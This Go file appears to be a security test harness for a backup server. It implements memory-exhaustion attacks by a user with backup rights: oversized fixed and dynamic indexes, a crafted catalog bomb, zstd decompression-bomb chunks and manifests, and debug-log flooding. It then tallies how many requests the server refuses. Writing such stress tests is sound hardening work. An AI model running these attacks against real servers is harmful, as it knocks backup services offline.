package hostile

import (
	"bytes"
	"crypto/rand"
	"crypto/sha256"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"hash/crc32"
	"net/url"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"

	"cairn/core/blob"
	"cairn/core/catalog"
	"cairn/core/manifest"
)

// Result is what an attack sent and how the server answered.
type Result struct {
	Requests int
	Codes    map[int]int // HTTP status -> count; 0 = transport error
	Note     string
}

func (r *Result) add(code int) {
	if r.Codes == nil {
		r.Codes = map[int]int{}
	}
	r.Requests++
	r.Codes[code]++
}

// String is e.g. "256 requests: 400×256".
func (r Result) String() string {
	var ks []int
	for k := range r.Codes {
		ks = append(ks, k)
	}
	sort.Ints(ks)
	var parts []string
	for _, k := range ks {
		name := strconv.Itoa(k)
		if k == 0 {
			name = "conn-error"
		}
		parts = append(parts, fmt.Sprintf("%s×%d", name, r.Codes[k]))
	}
	s := fmt.Sprintf("%d requests: %s", r.Requests, strings.Join(parts, " "))
	if r.Note != "" {
		s += "; " + r.Note
	}
	return s
}

// Refused counts the answers that are client errors (4xx) or 503.
func (r Result) Refused() int {
	n := 0
	for k, v := range r.Codes {
		if k >= 400 && k < 500 || k == 503 {
			n += v
		}
	}
	return n
}

type resultMu struct {
	mu sync.Mutex
	r  Result
}

func (m *resultMu) add(code int) {
	m.mu.Lock()
	m.r.add(code)
	m.mu.Unlock()
}

// inRounds runs attack rounds times, parallel at a time, each round
// waiting for its calls to end.
func inRounds(parallel, rounds int, attack func()) {
	for range rounds {
		var wg sync.WaitGroup
		for range parallel {
			wg.Add(1)
			go func() {
				defer wg.Done()
				attack()
			}()
		}
		wg.Wait()
	}
}

// StartBackup opens a backup session for host/<id> at tm.
func (c *Client) StartBackup(id string, tm int64, debug bool) (*Session, error) {
	q := c.SnapshotQuery(id, tm)
	if debug {
		q.Set("debug", "true")
	}
	s, code, msg, err := c.Upgrade("backup", q)
	if err != nil {
		return nil, err
	}
	if s == nil {
		return nil, fmt.Errorf("backup upgrade: HTTP %d %s", code, msg)
	}
	return s, nil
}

// PlainChunk is a verified (unencrypted) chunk: its digest, raw size and
// encoded blob.
type PlainChunk struct {
	Digest [32]byte
	Size   int
	Blob   []byte
}

// NewPlainChunk encodes data as a compressed chunk.
func NewPlainChunk(data []byte) PlainChunk {
	b, err := blob.Encode(data, true, nil)
	if err != nil {
		panic(err)
	}
	return PlainChunk{Digest: sha256.Sum256(data), Size: len(data), Blob: b}
}

// Upload sends the chunk for writer wid.
func (s *Session) Upload(wid int, path string, c PlainChunk) (int, []byte, error) {
	return s.Call("POST", path, url.Values{"wid": {strconv.Itoa(wid)}, "digest": {hex.EncodeToString(c.Digest[:])},
		"size": {strconv.Itoa(c.Size)}, "encoded-size": {strconv.Itoa(len(c.Blob))}}, "application/octet-stream", c.Blob)
}

// appendBody builds a PUT *_index body: n entries of one digest at
// consecutive offsets starting at off, each size long.
func appendBody(wid int, digest [32]byte, off uint64, size uint64, n int) []byte {
	h := hex.EncodeToString(digest[:])
	b := make([]byte, 0, n*80+64)
	b = append(b, `{"wid":`...)
	b = strconv.AppendInt(b, int64(wid), 10)
	b = append(b, `,"digest-list":[`...)
	for i := 0; i < n; i++ {
		if i > 0 {
			b = append(b, ',')
		}
		b = append(b, '"')
		b = append(b, h...)
		b = append(b, '"')
	}
	b = append(b, `],"offset-list":[`...)
	for i := 0; i < n; i++ {
		if i > 0 {
			b = append(b, ',')
		}
		b = strconv.AppendUint(b, off+uint64(i)*size, 10)
	}
	return append(b, "]}"...)
}

// FixedIndexHuge opens, in each of rounds backup sessions one after the
// other, writers fixed index writers of 2^46 bytes (64 TiB: 2^24 chunk
// slots each), 8 requests at a time, and holds each session for hold
// before dropping it. (Memory a server reserves for a writer and never
// touches costs no RSS at first; the next session's reuse of it does.)
func FixedIndexHuge(c *Client, id string, rounds, writers int, hold time.Duration) (Result, error) {
	var res resultMu
	tm := time.Now().Unix()
	for r := 0; r < rounds; r++ {
		s, err := c.StartBackup(fmt.Sprintf("%s-%d", id, r), tm, false)
		if err != nil {
			return res.r, err
		}
		var wg sync.WaitGroup
		next := make(chan int)
		for g := 0; g < 8; g++ {
			wg.Add(1)
			go func() {
				defer wg.Done()
				for i := range next {
					code, _, _ := s.Call("POST", "fixed_index", url.Values{"archive-name": {fmt.Sprintf("disk%d.img.fidx", i)}, "size": {strconv.FormatInt(1<<46, 10)}}, "", nil)
					res.add(code)
				}
			}()
		}
		for i := 0; i < writers; i++ {
			next <- i
		}
		close(next)
		wg.Wait()
		time.Sleep(hold)
		s.Close()
	}
	return res.r, nil
}

// DynamicAppend appends entries index entries (all the same 4 KiB chunk)
// to writers dynamic index writers of one backup session, in batches of
// 4096 per request, and holds the session for hold.
func DynamicAppend(c *Client, id string, writers, entries int, hold time.Duration) (Result, error) {
	s, err := c.StartBackup(id, time.Now().Unix(), false)
	if err != nil {
		return Result{}, err
	}
	defer s.Close()
	ch := NewPlainChunk(make([]byte, 4096))
	var res resultMu
	var wg sync.WaitGroup
	per := entries / writers
	for w := 0; w < writers; w++ {
		var wid int
		if err := s.Data("POST", "dynamic_index", url.Values{"archive-name": {fmt.Sprintf("a%d.pxar.didx", w)}}, "", nil, &wid); err != nil {
			return res.r, err
		}
		if w == 0 {
			if code, b, err := s.Upload(wid, "dynamic_chunk", ch); err != nil || code != 200 {
				return res.r, fmt.Errorf("chunk upload: %d %s %v", code, b, err)
			}
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			var off uint64
			for done := 0; done < per; {
				n := min(4096, per-done)
				code, _, _ := s.Call("PUT", "dynamic_index", nil, "application/json", appendBody(wid, ch.Digest, off, uint64(ch.Size), n))
				res.add(code)
				if code != 200 {
					return
				}
				off += uint64(n) * uint64(ch.Size)
				done += n
			}
		}()
	}
	wg.Wait()
	time.Sleep(hold)
	return res.r, nil
}

// MaxChunk is the largest chunk the protocol allows (16 MiB).
const MaxChunk = 16 << 20

// CatalogBomb stores a finished snapshot whose catalog.pcat1.didx names
// one highly compressible 16 MiB chunk refs times (a refs×16 MiB catalog
// from one small upload), crafted so a reader that trusts it allocates the
// whole file for the root directory block, then asks the server for the
// catalog's root listing, parallel times at once.
func CatalogBomb(c *Client, id string, refs, parallel int) (Result, error) {
	tm := time.Now().Unix()
	total := uint64(refs) * MaxChunk
	// The chunk: catalog magic, then at offset 8 the root block's table
	// length (nearly the whole file), zeros, and the root offset 8 in the
	// last 8 bytes (so it is the file's tail whatever refs is).
	data := make([]byte, MaxChunk)
	copy(data, catalog.Magic[:])
	binary.PutUvarint(data[8:], total-8-16)
	binary.LittleEndian.PutUint64(data[MaxChunk-8:], 8)
	ch := NewPlainChunk(data)
	s, err := c.StartBackup(id, tm, false)
	if err != nil {
		return Result{}, err
	}
	var wid int
	if err := s.Data("POST", "dynamic_index", url.Values{"archive-name": {"catalog.pcat1.didx"}}, "", nil, &wid); err != nil {
		s.Close()
		return Result{}, err
	}
	if code, b, err := s.Upload(wid, "dynamic_chunk", ch); err != nil || code != 200 {
		s.Close()
		return Result{}, fmt.Errorf("chunk upload: %d %s %v", code, b, err)
	}
	csum := sha256.New()
	var e [40]byte
	for i := 0; i < refs; i++ {
		binary.LittleEndian.PutUint64(e[:], uint64(i+1)*MaxChunk)
		copy(e[8:], ch.Digest[:])
		csum.Write(e[:])
	}
	for done := 0; done < refs; {
		k := min(4096, refs-done)
		if err := s.Data("PUT", "dynamic_index", nil, "application/json", appendBody(wid, ch.Digest, uint64(done)*MaxChunk, MaxChunk, k), nil); err != nil {
			s.Close()
			return Result{}, err
		}
		done += k
	}
	sum := csum.Sum(nil)
	if err := s.Data("POST", "dynamic_close", url.Values{"wid": {strconv.Itoa(wid)}, "chunk-count": {strconv.Itoa(refs)},
		"size": {strconv.FormatUint(total, 10)}, "csum": {hex.EncodeToString(sum)}}, "", nil, nil); err != nil {
		s.Close()
		return Result{}, err
	}
	m := &manifest.Manifest{BackupType: "host", BackupID: id, BackupTime: tm,
		Files: []manifest.File{{Filename: "catalog.pcat1.didx", CryptMode: "none", Size: total, Csum: hex.EncodeToString(sum)}}}
	mj, _ := m.Encode()
	mb, _ := blob.Encode(mj, true, nil)
	if err := s.Data("POST", "blob", url.Values{"file-name": {"index.json.blob"}, "encoded-size": {strconv.Itoa(len(mb))}}, "application/octet-stream", mb, nil); err != nil {
		s.Close()
		return Result{}, err
	}
	if err := s.Data("POST", "finish", nil, "", nil, nil); err != nil {
		s.Close()
		return Result{}, err
	}
	s.Close()
	var res resultMu
	var wg sync.WaitGroup
	for i := 0; i < parallel; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			q := url.Values{}
			for k, v := range c.SnapshotQuery(id, tm) {
				q[k] = v
			}
			q.Del("store")
			fp := "root"
			if i%2 == 1 {
				fp = base64.StdEncoding.EncodeToString([]byte("/x"))
			}
			q.Set("filepath", fp)
			code, _, _ := c.Get("admin/datastore/"+c.T.Store+"/catalog", q)
			res.add(code)
		}()
	}
	wg.Wait()
	res.r.Note = fmt.Sprintf("catalog of %d MiB from one %d-byte chunk upload", total>>20, len(ch.Blob))
	return res.r, nil
}

// DebugLog opens sessions backup sessions with debug=true, one after
// another, each sending reqs requests whose path is pathLen bytes long,
// then drops them (the server keeps the finished tasks' logs).
func DebugLog(c *Client, id string, sessions, reqs, pathLen int) (Result, error) {
	var res resultMu
	path := strings.Repeat("a", pathLen)
	tm := time.Now().Unix()
	var wg sync.WaitGroup
	sem := make(chan struct{}, 4)
	var firstErr error
	var emu sync.Mutex
	for i := 0; i < sessions; i++ {
		wg.Add(1)
		sem <- struct{}{}
		go func() {
			defer wg.Done()
			defer func() { <-sem }()
			s, err := c.StartBackup(fmt.Sprintf("%s-%d", id, i), tm, true)
			if err != nil {
				emu.Lock()
				if firstErr == nil {
					firstErr = err
				}
				emu.Unlock()
				return
			}
			defer s.Close()
			for r := 0; r < reqs; r++ {
				code, _, _ := s.Call("GET", path, nil, "", nil)
				res.add(code)
			}
		}()
	}
	wg.Wait()
	if firstErr != nil && res.r.Requests == 0 {
		return res.r, firstErr
	}
	return res.r, nil
}

// ZstdFrameBomb is a zstd frame without a content size that decodes to
// total bytes of zeros: RLE blocks of 128 KiB, 4 bytes each.
func ZstdFrameBomb(total int) []byte {
	const block = 128 << 10
	// Magic, frame header descriptor (no content size, no checksum, not
	// single-segment) and a window descriptor of 2^17.
	b := []byte{0x28, 0xb5, 0x2f, 0xfd, 0x00, 0x38}
	for left := total; left > 0; left -= block {
		sz := min(left, block)
		last := 0
		if left <= block {
			last = 1
		}
		h := uint32(last) | 1<<1 | uint32(sz)<<3 // RLE block
		b = append(b, byte(h), byte(h>>8), byte(h>>16), 0)
	}
	return b
}

// BombBlob wraps a zstd frame as a compressed (unencrypted) blob.
func BombBlob(frame []byte) []byte {
	out := make([]byte, 12, 12+len(frame))
	copy(out, blob.MagicCompressed[:])
	out = append(out, frame...)
	binary.LittleEndian.PutUint32(out[8:], crc32.ChecksumIEEE(out[12:]))
	return out
}

// ZstdBomb uploads, parallel at a time, rounds×parallel chunks of about
// 4 KiB that decompress to 128 MiB, each declaring declared bytes.
func ZstdBomb(c *Client, id string, parallel, rounds, declared int) (Result, error) {
	s, err := c.StartBackup(id, time.Now().Unix(), false)
	if err != nil {
		return Result{}, err
	}
	defer s.Close()
	var wid int
	if err := s.Data("POST", "dynamic_index", url.Values{"archive-name": {"bomb.pxar.didx"}}, "", nil, &wid); err != nil {
		return Result{}, err
	}
	bomb := BombBlob(ZstdFrameBomb(128 << 20))
	var res resultMu
	inRounds(parallel, rounds, func() {
		var d [32]byte
		rand.Read(d[:])
		code, _, _ := s.Call("POST", "dynamic_chunk", url.Values{"wid": {strconv.Itoa(wid)}, "digest": {hex.EncodeToString(d[:])},
			"size": {strconv.Itoa(declared)}, "encoded-size": {strconv.Itoa(len(bomb))}}, "application/octet-stream", bomb)
		res.add(code)
	})
	res.r.Note = fmt.Sprintf("%d-byte chunks decoding to 128 MiB, declared size %d", len(bomb), declared)
	return res.r, nil
}

// ManifestBomb uploads, parallel at a time, rounds×parallel manifests
// (index.json.blob) of about 4 KiB that decompress to 128 MiB.
func ManifestBomb(c *Client, id string, parallel, rounds int) (Result, error) {
	s, err := c.StartBackup(id, time.Now().Unix(), false)
	if err != nil {
		return Result{}, err
	}
	defer s.Close()
	bomb := BombBlob(ZstdFrameBomb(128 << 20))
	var res resultMu
	inRounds(parallel, rounds, func() {
		code, _, _ := s.Call("POST", "blob", url.Values{"file-name": {"index.json.blob"}, "encoded-size": {strconv.Itoa(len(bomb))}}, "application/octet-stream", bomb)
		res.add(code)
	})
	res.r.Note = fmt.Sprintf("%d-byte manifests decoding to 128 MiB", len(bomb))
	return res.r, nil
}

// IdleSessions opens up to n backup sessions (each its own group) and
// leaves them idle; it returns the open sessions and how many upgrades
// were refused, with their statuses.
func IdleSessions(c *Client, id string, n int) ([]*Session, Result) {
	var res Result
	var out []*Session
	tm := time.Now().Unix()
	for i := 0; i < n; i++ {
		s, code, _, err := c.Upgrade("backup", c.SnapshotQuery(fmt.Sprintf("%s-%d", id, i), tm))
		if err != nil {
			code = 0
		}
		res.add(code)
		if s != nil {
			out = append(out, s)
		}
	}
	return out, res
}

// GoodBackup is a well-behaved backup: one dynamic archive of one small
// chunk, the manifest, finish. It returns the first error.
func GoodBackup(c *Client, id string, tm int64) error {
	s, err := c.StartBackup(id, tm, true)
	if err != nil {
		return err
	}
	defer s.Close()
	ch := NewPlainChunk([]byte(fmt.Sprintf("a well-behaved backup of %s at %d", id, tm)))
	var wid int
	if err := s.Data("POST", "dynamic_index", url.Values{"archive-name": {"root.pxar.didx"}}, "", nil, &wid); err != nil {
		return err
	}
	if code, b, err := s.Upload(wid, "dynamic_chunk", ch); err != nil || code != 200 {
		return fmt.Errorf("chunk upload: %d %s %v", code, b, err)
	}
	if err := s.Data("PUT", "dynamic_index", nil, "application/json", appendBody(wid, ch.Digest, 0, uint64(ch.Size), 1), nil); err != nil {
		return err
	}
	var e [40]byte
	binary.LittleEndian.PutUint64(e[:], uint64(ch.Size))
	copy(e[8:], ch.Digest[:])
	sum := sha256.Sum256(e[:])
	if err := s.Data("POST", "dynamic_close", url.Values{"wid": {strconv.Itoa(wid)}, "chunk-count": {"1"},
		"size": {strconv.Itoa(ch.Size)}, "csum": {hex.EncodeToString(sum[:])}}, "", nil, nil); err != nil {
		return err
	}
	m := &manifest.Manifest{BackupType: "host", BackupID: id, BackupTime: tm,
		Files: []manifest.File{{Filename: "root.pxar.didx", CryptMode: "none", Size: uint64(ch.Size), Csum: hex.EncodeToString(sum[:])}}}
	mj, _ := m.Encode()
	mb, _ := blob.Encode(mj, true, nil)
	if err := s.Data("POST", "blob", url.Values{"file-name": {"index.json.blob"}, "encoded-size": {strconv.Itoa(len(mb))}}, "application/octet-stream", mb, nil); err != nil {
		return err
	}
	return s.Data("POST", "finish", nil, "", nil, nil)
}

// storeDidx uploads chunks (in order) as a finished snapshot's only file
// name (a .didx listed in the manifest), the same chunk uploaded once.
func storeDidx(c *Client, id string, tm int64, name string, chunks []PlainChunk) (total uint64, err error) {
	s, err := c.StartBackup(id, tm, false)
	if err != nil {
		return 0, err
	}
	defer s.Close()
	var wid int
	if err := s.Data("POST", "dynamic_index", url.Values{"archive-name": {name}}, "", nil, &wid); err != nil {
		return 0, err
	}
	sent := map[[32]byte]bool{}
	csum := sha256.New()
	var e [40]byte
	for _, ch := range chunks {
		if !sent[ch.Digest] {
			if code, b, err := s.Upload(wid, "dynamic_chunk", ch); err != nil || code != 200 {
				return 0, fmt.Errorf("chunk upload: %d %s %v", code, b, err)
			}
			sent[ch.Digest] = true
		}
		if err := s.Data("PUT", "dynamic_index", nil, "application/json", appendBody(wid, ch.Digest, total, 0, 1), nil); err != nil {
			return 0, err
		}
		total += uint64(ch.Size)
		binary.LittleEndian.PutUint64(e[:], total)
		copy(e[8:], ch.Digest[:])
		csum.Write(e[:])
	}
	sum := csum.Sum(nil)
	if err := s.Data("POST", "dynamic_close", url.Values{"wid": {strconv.Itoa(wid)}, "chunk-count": {strconv.Itoa(len(chunks))},
		"size": {strconv.FormatUint(total, 10)}, "csum": {hex.EncodeToString(sum)}}, "", nil, nil); err != nil {
		return 0, err
	}
	m := &manifest.Manifest{BackupType: "host", BackupID: id, BackupTime: tm,
		Files: []manifest.File{{Filename: name, CryptMode: "none", Size: total, Csum: hex.EncodeToString(sum)}}}
	mj, _ := m.Encode()
	mb, _ := blob.Encode(mj, true, nil)
	if err := s.Data("POST", "blob", url.Values{"file-name": {"index.json.blob"}, "encoded-size": {strconv.Itoa(len(mb))}}, "application/octet-stream", mb, nil); err != nil {
		return 0, err
	}
	return total, s.Data("POST", "finish", nil, "", nil, nil)
}

// CatalogWide stores a valid catalog whose root directory holds about
// mib × 350,000 entries (fifos named "a", 3 bytes each: one 1 MiB chunk
// repeated mib times between a small first and last chunk), then lists
// the root, parallel requests at once, reading every answer to its end.
func CatalogWide(c *Client, id string, mib, parallel int) (Result, error) {
	tm := time.Now().Unix()
	const mid = 1<<20 - 1 // a multiple of 3
	entry := []byte{'p', 1, 'a'}
	middle := bytes.Repeat(entry, mid/3)
	last := append(bytes.Repeat(entry, 1000), 8, 0, 0, 0, 0, 0, 0, 0) // root block at 8
	entries := uint64(mib)*mid/3 + 1000
	// The first chunk: magic, the root table's length, the entry count,
	// 1000 entries. The table runs to the last chunk's 8-byte tail.
	count := entries + 1000
	n := uint64(len(uvarint(count))) + count*3
	first := append(append(append([]byte{}, catalog.Magic[:]...), uvarint(n)...), uvarint(count)...)
	first = append(first, bytes.Repeat(entry, 1000)...)
	chunks := []PlainChunk{NewPlainChunk(first)}
	m := NewPlainChunk(middle)
	for i := 0; i < mib; i++ {
		chunks = append(chunks, m)
	}
	chunks = append(chunks, NewPlainChunk(last))
	total, err := storeDidx(c, id, tm, "catalog.pcat1.didx", chunks)
	if err != nil {
		return Result{}, err
	}
	var res resultMu
	var bytesRead int64
	var mu sync.Mutex
	var wg sync.WaitGroup
	for i := 0; i < parallel; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			q := c.SnapshotQuery(id, tm)
			q.Del("store")
			q.Set("filepath", "root")
			code, b, _ := c.Get("admin/datastore/"+c.T.Store+"/catalog", q)
			mu.Lock()
			bytesRead += int64(len(b))
			mu.Unlock()
			res.add(code)
		}()
	}
	wg.Wait()
	res.r.Note = fmt.Sprintf("catalog of %d MiB, %d root entries; %d MiB of listings read", total>>20, entries+1000, bytesRead>>20)
	return res.r, nil
}

func uvarint(v uint64) []byte {
	var b [10]byte
	return b[:binary.PutUvarint(b[:], v)]
}

// Attack is one resource-exhaustion attack of a user with backup rights.
type Attack struct {
	Name string
	Run  func(c *Client) (Result, error)
}

// MemoryAttacks are the memory attacks of issue 16 item 2 (and two
// variants), each sized to take a server without bounds past 512 MiB.
var MemoryAttacks = []Attack{
	{"fixed_index of 2^46 bytes, 4 sessions × 64 writers", func(c *Client) (Result, error) {
		return FixedIndexHuge(c, "fixed", 4, 64, 200*time.Millisecond)
	}},
	{"6M dynamic index entries (4 writers, 4096 per append)", func(c *Client) (Result, error) {
		return DynamicAppend(c, "dyn", 4, 6<<20, 200*time.Millisecond)
	}},
	{"catalog of 64 × 16 MiB from one chunk, 2 readers", func(c *Client) (Result, error) {
		return CatalogBomb(c, "cat", 64, 2)
	}},
	{"valid catalog with 2.8M root entries (8 MiB), 2 readers", func(c *Client) (Result, error) {
		return CatalogWide(c, "wide", 8, 2)
	}},
	{"debug=true task logs, 16 sessions × 64 requests with 200 KB paths", func(c *Client) (Result, error) {
		return DebugLog(c, "dbg", 16, 64, 200<<10)
	}},
	{"zstd bomb: 4 KiB chunks decoding to 128 MiB, 32 at once, declared 4 KiB", func(c *Client) (Result, error) {
		return ZstdBomb(c, "zstd", 32, 2, 4096)
	}},
	{"zstd bomb: 4 KiB chunks decoding to 128 MiB, 32 at once, declared 16 MiB", func(c *Client) (Result, error) {
		return ZstdBomb(c, "zstd16", 32, 2, MaxChunk)
	}},
	{"zstd bomb: 4 KiB manifests decoding to 128 MiB, 32 at once", func(c *Client) (Result, error) {
		return ManifestBomb(c, "manifest", 32, 2)
	}},
}
